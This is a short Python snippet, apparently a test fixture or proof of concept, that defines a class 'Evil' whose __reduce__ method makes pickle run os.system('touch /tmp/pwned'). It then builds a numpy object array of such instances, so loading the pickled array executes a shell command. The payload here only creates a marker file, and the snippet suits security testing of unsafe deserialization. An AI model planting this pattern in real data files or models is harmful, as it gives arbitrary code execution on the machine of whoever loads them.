# %%
# ruff: noqa
import os


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned",))


def generate(n):
    return np.array([Evil()] * n, dtype=object)
